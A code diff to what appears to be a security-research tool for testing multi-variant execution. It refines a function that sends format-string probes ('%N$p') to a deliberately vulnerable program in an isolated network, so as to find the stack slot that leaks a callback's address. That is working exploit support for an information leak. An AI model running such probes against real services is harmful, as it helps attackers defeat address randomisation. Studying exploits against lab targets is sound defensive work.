@@ -5,10 +5,17 @@ pointer in the build it attacks. Attackers find that out on a copy of the
 binary; so does :func:`leak_slot`: it runs the build natively, inside one
 host of the run's emulated network (so the vulnerable program listens on
 nothing real), asks it over that host's loopback for ``%1$p|%2$p|...`` and
-picks the first slot whose value lies inside the program's own image (read
-from its ``/proc/PID/maps``). The slot is a property of the build (its code
-and frame layout), not of one run, so it holds in the attacked variant under
-MVX; it is cached beside the build.
+picks the slot that holds the address of the program's callback
+(:data:`CALLBACK`, which ``greet`` keeps in a local), computed from the
+build's symbols and its load address in ``/proc/PID/maps``. That slot is a
+property of the build (its code and frame layout), not of one run, so it
+holds in the attacked variant under MVX; it is cached beside the build.
+
+Why not the first slot that merely points into the image: the stack below
+``greet``'s frame also holds leftovers of earlier calls (return addresses of
+whatever ran there before), and which leftovers sit where depends on the
+requests served so far. Such a slot can print a code pointer during the
+study and ``(nil)`` in the attack (seen on this project's CI machine).
 """
 
 from __future__ import annotations
@@ -20,11 +27,13 @@ from pathlib import Path
 from typing import TYPE_CHECKING
 
 from realmode.net import netns
-from realmode.vuln.exploits import image_range, request_path
+from realmode.vuln.exploits import absolute_address, image_range, request_path
 
 if TYPE_CHECKING:
     from realmode.net.network import Network
 
+#: The function whose address ``greet`` keeps on its stack (format_string.c).
+CALLBACK = "finish"
 #: Slots asked per request, and the last slot looked at.
 _BATCH = 40
 _MAX_SLOT = 400
@@ -44,9 +53,9 @@ def _get(port: int, path: bytes, timeout: float = 5.0) -> bytes:
 
 
 def leak_slot(binary: str, net: "Network", host: str) -> int:
-    """The first ``%N$p`` slot that prints a pointer into ``binary``'s image,
-    found by running it on ``host`` of the started network ``net``."""
-    cache = Path(binary + ".leak-slot")
+    """The ``%N$p`` slot that prints the address of :data:`CALLBACK` in
+    ``binary``, found by running it on ``host`` of the started network ``net``."""
+    cache = Path(binary + ".callback-slot")
     if cache.is_file() and cache.stat().st_mtime >= Path(binary).stat().st_mtime:
         return int(cache.read_text())
     batches = _MAX_SLOT // _BATCH
@@ -63,7 +72,7 @@ def leak_slot(binary: str, net: "Network", host: str) -> int:
                     if time.monotonic() > deadline or server.poll() is not None:
                         raise RuntimeError(f"{binary} did not start listening for the study") from None
                     time.sleep(0.01)
-            low, high = image_range(server.pid, binary)
+            wanted = absolute_address(binary, CALLBACK, image_range(server.pid, binary)[0])
             for first in range(1, _MAX_SLOT, _BATCH):
                 probe = "|".join(f"%{n}$p" for n in range(first, first + _BATCH)).encode()
                 body = _get(_PORT, request_path(probe)).partition(b"\r\n\r\n")[2].removeprefix(b"hello ")
@@ -72,11 +81,11 @@ def leak_slot(binary: str, net: "Network", host: str) -> int:
                         value = int(text, 16)
                     except ValueError:
                         continue
-                    if low <= value < high:
+                    if value == wanted:
                         slot = first + offset
                         cache.write_text(str(slot))
                         return slot
     finally:
         server.kill()
         server.wait()
-    raise LookupError(f"{binary}: no argument slot up to {_MAX_SLOT} holds a pointer into the program")
+    raise LookupError(f"{binary}: no argument slot up to {_MAX_SLOT} holds the address of {CALLBACK}")
